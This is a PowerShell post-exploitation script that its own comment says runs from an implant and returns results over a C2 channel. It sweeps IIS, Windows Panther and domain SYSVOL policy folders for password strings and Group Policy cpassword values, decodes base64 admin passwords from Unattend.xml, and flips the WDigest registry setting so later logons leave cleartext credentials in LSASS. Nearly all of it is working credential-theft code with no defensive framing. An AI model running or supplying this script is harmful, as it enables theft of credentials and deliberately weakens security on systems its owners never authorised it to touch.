# quick & dirty cred hunter - run from the implant, output goes back over the C2 channel
$global:hits = @()

function Find-Passwords {
    param($Root = 'C:\')

    $patterns = 'password=', 'pwd=', '<Password>', 'connectionString', 'cpassword'
    gci $Root -Recurse -Include *.xml, *.config, *.ini, *.ps1, *.txt -ErrorAction SilentlyContinue |
        ? { $_.Length -lt 2MB } |
        % {
            $file = $_.FullName
            try {
                $m = Select-String -Path $file -Pattern $patterns -SimpleMatch
                if ($m -ne $null) {
                    $global:hits += $m | select Path, LineNumber, Line
                }
            }
            catch { }
        }
}

Find-Passwords -Root "$env:SystemDrive\inetpub"
Find-Passwords -Root "$env:windir\Panther"
Find-Passwords -Root "\\$env:USERDNSDOMAIN\SYSVOL\$env:USERDNSDOMAIN\Policies"

# make the next logon leave a cleartext copy in LSASS (WDigest downgrade)
Set-ItemProperty HKLM:\SYSTEM\CurrentControlSet\Control\SecurityProviders\WDigest UseLogonCredential 1

# unattend files often keep the local admin password
$unattend = Get-Content "$env:windir\Panther\Unattend.xml" -Raw -ErrorAction SilentlyContinue
if ($unattend -match '<Value>(?<b64>[^<]+)</Value>') {
    Write-Host "[+] unattend value: $([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($Matches.b64)))"
}

Write-Host "[+] $($global:hits.Count) candidate lines"
$global:hits | ft -AutoSize
